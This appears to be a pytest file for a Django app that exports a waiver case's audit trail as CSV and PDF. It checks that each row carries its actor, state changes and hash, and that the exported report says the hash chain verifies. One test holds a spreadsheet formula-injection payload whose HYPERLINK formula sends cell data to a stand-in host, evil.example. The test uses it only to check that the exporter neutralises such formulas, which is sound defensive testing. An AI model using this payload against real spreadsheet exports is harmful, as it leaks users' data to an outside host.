"""Exporting a case's audit trail: who, what, when, old → new, why."""

import csv
import io

import pytest
from pypdf import PdfReader

from waivers import audit
from waivers.services.audit_export import audit_trail_csv
from waivers.spreadsheet import neutralise_formula

pytestmark = pytest.mark.django_db


def test_csv_has_a_row_per_entry_with_old_and_new_values(approved, reviewer, approver):
    rows = list(csv.DictReader(io.StringIO(audit_trail_csv(approved))))
    assert [r["action"] for r in rows] == ["submit", "assign", "recommend", "sign"]
    assign = rows[1]
    assert assign["actor"] == reviewer.printed_name
    assert "state: Submitted → Under review" in assign["changes"]
    assert f"reviewer: — → {reviewer.printed_name}" in assign["changes"]
    assert rows[3]["actor"] == approver.printed_name and rows[3]["to_state"] == "Approved"
    assert rows[3]["event"] == "Decision signed"
    assert all(len(r["hash"]) == 64 for r in rows)


def test_csv_neutralises_a_message_that_a_spreadsheet_would_run_as_a_formula(approved, approver):
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    audit.record(approved, actor=approver, action="note", reason=attack)
    rows = list(csv.DictReader(io.StringIO(audit_trail_csv(approved))))
    assert rows[-1]["reason"] == "'" + attack
    assert rows[-1]["action"] == "note"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_and_plain_text_is_not(start):
    assert neutralise_formula(start + "1+1") == "'" + start + "1+1"
    assert neutralise_formula("Evidence checked — fine") == "Evidence checked — fine"


def test_csv_download_from_the_case_page(client, approved, reviewer):
    client.force_login(reviewer)
    response = client.get(f"/nra/cases/{approved.reference}/audit.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="{approved.reference}-audit-trail.csv"' in response["Content-Disposition"]
    assert b"recommend" in response.content


def test_pdf_export_lists_the_trail_and_says_the_chain_verifies(client, approved, approver):
    client.force_login(approver)
    response = client.get(f"/nra/cases/{approved.reference}/audit.pdf")
    assert response["Content-Type"] == "application/pdf"
    pages = PdfReader(io.BytesIO(response.content)).pages
    text = " ".join(" ".join(p.extract_text() for p in pages).split())
    assert approved.reference in text
    assert "verifies" in text and approver.printed_name in text
    assert "Decision signed" in text and "reviewer_id" not in text
    signature = approved.signatures.get()
    assert "Signature manifest" in text and "Approval of waiver decision" in text
    assert signature.content_hash[:16] in text.replace(" ", "")
